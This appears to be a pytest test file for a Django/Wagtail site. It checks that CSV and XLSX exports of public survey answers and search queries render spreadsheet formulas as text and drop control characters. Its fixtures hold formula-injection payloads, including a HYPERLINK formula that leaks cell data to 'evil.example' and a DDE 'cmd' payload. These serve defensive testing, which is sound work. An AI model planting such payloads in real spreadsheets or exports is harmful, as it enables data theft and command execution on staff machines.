"""Spreadsheets made from what the public typed open safely: no answer runs as a formula on a staff member's
machine, and no character in an answer can make the export fail."""

import csv
import io

from django.test import Client
from django.urls import reverse

import pytest
from openpyxl import load_workbook

from search.models import SearchLog

from .helpers import SUGGESTION, answer, survey

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "办事大厅\x01排队\x1f太久": "办事大厅排队太久",  # control characters an XLSX file cannot hold
    "\x08=1+1": "'=1+1",  # a formula behind a dropped control character
    "希望延长周六办事时间": "希望延长周六办事时间",
}


@pytest.fixture
def answered_survey(home):
    """A survey each hostile suggestion was sent to by a different citizen, through the public form."""
    page = survey(home)
    for number, suggestion in enumerate(HOSTILE, start=1):
        response = answer(Client(), page, address=f"10.0.0.{number}", **{SUGGESTION: suggestion})
        assert response.status_code == 200
    return page


def export(admin_client, page, spreadsheet_format):
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    response = admin_client.get(url, {"export": spreadsheet_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def column(rows, heading):
    header, *rest = rows
    return sorted(row[header.index(heading)] for row in rest)


def test_the_csv_of_survey_answers_shows_formulas_as_text(admin_client, answered_survey):
    rows = list(csv.reader(io.StringIO(export(admin_client, answered_survey, "csv").decode("utf-8-sig"))))
    assert column(rows, SUGGESTION) == sorted(HOSTILE.values())


def test_the_xlsx_of_survey_answers_opens_with_formulas_as_text(admin_client, answered_survey):
    sheet = load_workbook(io.BytesIO(export(admin_client, answered_survey, "xlsx"))).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert column(rows, SUGGESTION) == sorted(HOSTILE.values())
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("spreadsheet_format", ["csv", "xlsx"])
def test_the_search_query_report_exports_queries_as_text(admin_client, spreadsheet_format):
    SearchLog.objects.create(query='=HYPERLINK("http://evil.example")', language="zh-hans", results=0)
    SearchLog.objects.create(query="社保\x07查询", language="zh-hans", results=0)
    response = admin_client.get("/admin/reports/zero-result-queries/", {"export": spreadsheet_format})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if spreadsheet_format == "csv":
        queries = [row[0] for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))][1:]
    else:
        queries = [row[0].value for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2)]
    assert sorted(queries) == sorted(['\'=HYPERLINK("http://evil.example")', "社保查询"])
